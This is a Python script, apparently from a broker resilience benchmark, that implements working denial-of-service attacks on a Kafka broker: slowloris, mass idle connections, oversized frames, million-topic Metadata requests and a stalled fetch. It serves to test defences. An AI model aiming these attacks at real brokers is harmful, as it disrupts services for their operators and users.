#!/usr/bin/env python3
"""Hostile Kafka clients, for measuring a broker's service while under attack (see
under-attack.sh). Runs one attack until killed. Traffic goes only to the given address, from
127.0.0.2 (ATTACK_SOURCE).

  attack.py MODE HOST:PORT

Modes:
  slowloris     1,000 connections, each announcing a 100-byte request and sending 1 byte/s
  idle          5,000 connections that send nothing
  giant-frames  1,000 connections, each announcing a 100 MB request and sending 2 MB of it
  metadata      a loop of Metadata v12 requests naming 1,000,000 topics each
  stalled-fetch a consumer that fetches up to 64 MiB of TOPIC (env ATTACK_TOPIC) and never reads
"""
import os
import resource
import socket
import struct
import sys
import time


def raise_nofile():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


# The attackers' own address (another host, as an attacker would be): the broker caps
# connections per client address, and the measured producer connects from 127.0.0.1.
SOURCE = os.environ.get("ATTACK_SOURCE", "127.0.0.2")


def connect(host, port, attempts=3):
    for _ in range(attempts):
        try:
            return socket.create_connection((host, port), timeout=5, source_address=(SOURCE, 0))
        except OSError:
            time.sleep(0.05)
    return None


def uvarint(n):
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def compact_string(s):
    b = s.encode()
    return uvarint(len(b) + 1) + b


def request(api_key, version, correlation, body, flexible):
    header = struct.pack(">hhi", api_key, version, correlation)
    header += struct.pack(">h", 6) + b"attack"  # client id (nullable string, not compact)
    if flexible:
        header += b"\x00"  # header tagged fields
    payload = header + body
    return struct.pack(">i", len(payload)) + payload


def metadata_million():
    body = bytearray(uvarint(1_000_000 + 1))
    for i in range(1_000_000):
        body += b"\x00" * 16  # topic id
        body += compact_string(f"t{i}")
        body += b"\x00"  # tagged fields
    body += b"\x01"  # allow auto topic creation
    body += b"\x00"  # include topic authorized operations
    body += b"\x00"  # request tagged fields
    return request(3, 12, 1, bytes(body), True)


def fetch_request(topic, max_bytes):
    # Fetch v4: replica, max wait, min bytes, max bytes, isolation, [topic [partition offset max]]
    body = struct.pack(">iiiib", -1, 0, 1, max_bytes, 0)
    body += struct.pack(">i", 1) + struct.pack(">h", len(topic)) + topic.encode()
    body += struct.pack(">i", 1) + struct.pack(">iqi", 0, 0, max_bytes)
    return request(1, 4, 7, body, False)


def main(mode, addr):
    host, port = addr.rsplit(":", 1)
    port = int(port)
    raise_nofile()
    held = []
    if mode == "slowloris":
        for _ in range(1000):
            s = connect(host, port)
            if s:
                s.sendall(struct.pack(">i", 100))
                held.append(s)
        while True:
            for s in list(held):
                try:
                    s.send(b"\x00")
                except OSError:
                    held.remove(s)
                    s2 = connect(host, port)
                    if s2:
                        s2.sendall(struct.pack(">i", 100))
                        held.append(s2)
            time.sleep(1)
    elif mode == "idle":
        while True:
            while len(held) < 5000:
                s = connect(host, port)
                if not s:
                    break
                held.append(s)
            time.sleep(1)
            # Reopen what the broker closed (idle timeout, caps).
            alive = []
            for s in held:
                s.setblocking(False)
                try:
                    if s.recv(1) == b"":
                        s.close()
                        continue
                except BlockingIOError:
                    pass
                except OSError:
                    s.close()
                    continue
                alive.append(s)
            held = alive
    elif mode == "giant-frames":
        chunk = b"\x00" * 65536
        while True:
            while len(held) < 1000:
                s = connect(host, port)
                if not s:
                    break
                s.sendall(struct.pack(">i", 100_000_000))
                s.setblocking(False)
                sent = 0
                while sent < 2 << 20:
                    try:
                        sent += s.send(chunk)
                    except OSError:
                        break
                held.append(s)
            time.sleep(1)
    elif mode == "metadata":
        frame = metadata_million()
        while True:
            s = connect(host, port)
            if not s:
                time.sleep(0.1)
                continue
            try:
                s.sendall(frame)
                s.recv(1)
            except OSError:
                pass
            s.close()
    elif mode == "stalled-fetch":
        topic = os.environ.get("ATTACK_TOPIC", "tidelog-bench")
        s = connect(host, port)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        s.sendall(fetch_request(topic, 64 << 20))
        while True:
            time.sleep(5)  # never reads; the broker must cut it and serve the rest
    else:
        sys.exit(f"unknown mode {mode}")


if __name__ == "__main__":
    if len(sys.argv) != 3:
        sys.exit(__doc__)
    main(sys.argv[1], sys.argv[2])
